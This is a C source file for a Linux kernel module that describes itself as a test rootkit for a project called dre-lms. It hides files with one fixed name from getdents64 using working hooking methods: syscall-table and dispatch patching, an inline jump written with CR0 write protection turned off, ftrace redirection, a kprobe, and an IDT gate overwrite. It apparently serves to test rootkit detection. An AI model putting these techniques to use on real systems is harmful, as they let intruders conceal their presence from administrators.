// SPDX-License-Identifier: GPL-2.0-only
/*
 * A root-kit for the tests of dre-lms, and for nothing else: in the guest it is loaded in it hides each file named
 * "hidden-by-the-kit" from getdents64(2), and puts all back when it is unloaded.
 *
 * way=table: by the table of system calls, where the kernel still uses that; dispatch: by the function that newer
 * kernels have in its place; jump: by a jump at the begin of the system call; ftrace: by the function tracer; probe: by a
 * kprobe at what takes a name. Two hide nothing: return, a kretprobe there, and gate, by which an exception leads here
 * that no processor raises.
 */
#include <asm/desc.h>
#include <asm/unistd.h>
#include <linux/delay.h>
#include <linux/dirent.h>
#include <linux/ftrace.h>
#include <linux/kprobes.h>
#include <linux/module.h>
#include <linux/slab.h>
#include <linux/stop_machine.h>
#include <linux/uaccess.h>

#include "found.h"

#define HIDDEN "hidden-by-the-kit"
#define CALL 5 /* octets of a call or jump, and of the place that the function tracer has */
#define BODY 16384
#define VECTOR 21

static char *way = "";
module_param(way, charp, 0);

static long (*beyond)(const struct pt_regs *regs); /* getdents64 behind what was changed */
static u8 *changed, before[16];
static size_t octets;

static long hooked(const struct pt_regs *regs)
{
	struct linux_dirent64 __user *user = (void __user *)regs->si;
	long left, kept = 0, length = beyond(regs);
	u8 *all, *place;

	if (length <= 0)
		return length;
	all = kvmalloc(length, GFP_KERNEL);
	if (!all || copy_from_user(all, user, length))
		goto out;
	for (place = all, left = length; left > 0;) {
		struct linux_dirent64 *one = (void *)place;
		unsigned short size = one->d_reclen;

		if (strcmp(one->d_name, HIDDEN)) {
			memmove(all + kept, place, size);
			kept += size;
		}
		place += size;
		left -= size;
	}
	if (!copy_to_user(user, all, kept))
		length = kept;
out:
	kvfree(all);
	return length;
}

/*
 * Without write protection, for what is written is mapped to be read only; while no other processor runs, for it would
 * run half an instruction.
 */
static int write_over(void *with)
{
	unsigned long cr0 = read_cr0();

	asm volatile("mov %0, %%cr0" : : "r"(cr0 & ~X86_CR0_WP) : "memory");
	memcpy(changed, with, octets);
	asm volatile("mov %0, %%cr0" : : "r"(cr0) : "memory");
	return 0;
}

static void change(void *place, const void *with, size_t count)
{
	changed = place;
	octets = count;
	memcpy(before, place, count);
	stop_machine(write_over, (void *)with, NULL);
}

static void lead(u8 *place, u8 code)
{
	s32 distance = (u8 *)hooked - (place + CALL);
	u8 jump[CALL] = { code };

	memcpy(jump + 1, &distance, sizeof(distance));
	change(place, jump, sizeof(jump));
}

static void notrace redirect(unsigned long ip, unsigned long parent, struct ftrace_ops *ops, struct ftrace_regs *fregs)
{
	ftrace_get_regs(fregs)->ip = (unsigned long)hooked;
}

static struct ftrace_ops tracer = {
	.func = redirect,
	.flags = FTRACE_OPS_FL_SAVE_REGS | FTRACE_OPS_FL_IPMODIFY | FTRACE_OPS_FL_RECURSION,
};

/* bool filldir64(struct dir_context *, const char *name, int length, loff_t, u64, unsigned int) */
static int on_name(struct kprobe *probe, struct pt_regs *regs)
{
	if (regs->dx == strlen(HIDDEN) && !memcmp((char *)regs->si, HIDDEN, regs->dx)) {
		regs->si = (unsigned long)".";
		regs->dx = 1;
	}
	return 0;
}

static int on_return(struct kretprobe_instance *instance, struct pt_regs *regs)
{
	return 0;
}

static struct kprobe names = { .symbol_name = "filldir64", .pre_handler = on_name };
static struct kretprobe returns = { .kp.symbol_name = "filldir64", .handler = on_return };

static int by_table(u8 *call)
{
	void **table = found("sys_call_table");
	void *with = hooked;

	if (!table)
		return -ENOENT;
	beyond = (void *)call;
	change(&table[__NR_getdents64], &with, sizeof(with));
	return 0;
}

static int by_dispatch(u8 *call)
{
	u8 *body = found("x64_sys_call"), *place;

	beyond = (void *)call;
	for (place = body; body && place < body + BODY; place++)
		if ((*place == 0xe8 || *place == 0xe9) && place + CALL + *(s32 *)(place + 1) == call) {
			lead(place, *place);
			return 0;
		}
	return -ENOENT;
}

static int by_ftrace(void)
{
	static char name[] = "__x64_sys_getdents64";
	int error = ftrace_set_filter(&tracer, name, strlen(name), 0);

	return error ? error : register_ftrace_function(&tracer);
}

static int by_gate(void)
{
	gate_desc *table = found("idt_table"), gate;
	unsigned long to = (unsigned long)hooked;

	if (!table)
		return -ENOENT;
	gate = table[VECTOR];
	gate.offset_low = (u16)to;
	gate.offset_middle = (u16)(to >> 16);
	gate.offset_high = (u32)(to >> 32);
	change(&table[VECTOR], &gate, sizeof(gate));
	return 0;
}

static int __init hooker_init(void)
{
	static const u8 endbr[] = { 0xf3, 0x0f, 0x1e, 0xfa };
	u8 *call = found("__x64_sys_getdents64"), *tracers = call;

	if (!call)
		return -ENOENT;
	if (!memcmp(call, endbr, sizeof(endbr)))
		tracers += sizeof(endbr);
	beyond = (void *)(tracers + CALL);
	if (!strcmp(way, "table"))
		return by_table(call);
	if (!strcmp(way, "dispatch"))
		return by_dispatch(call);
	if (!strcmp(way, "ftrace"))
		return by_ftrace();
	if (!strcmp(way, "probe"))
		return register_kprobe(&names);
	if (!strcmp(way, "return"))
		return register_kretprobe(&returns);
	if (!strcmp(way, "gate"))
		return by_gate();
	if (strcmp(way, "jump"))
		return -EINVAL;
	lead(tracers, 0xe9);
	return 0;
}

static void __exit hooker_exit(void)
{
	if (changed)
		stop_machine(write_over, before, NULL);
	else if (!strcmp(way, "probe"))
		unregister_kprobe(&names);
	else if (!strcmp(way, "return"))
		unregister_kretprobe(&returns);
	else
		unregister_ftrace_function(&tracer);
	msleep(200); /* whoever is in hooked() still */
}

module_init(hooker_init);
module_exit(hooker_exit);
MODULE_LICENSE("GPL");
MODULE_DESCRIPTION("hooks getdents64 in a guest of the tests of dre-lms");
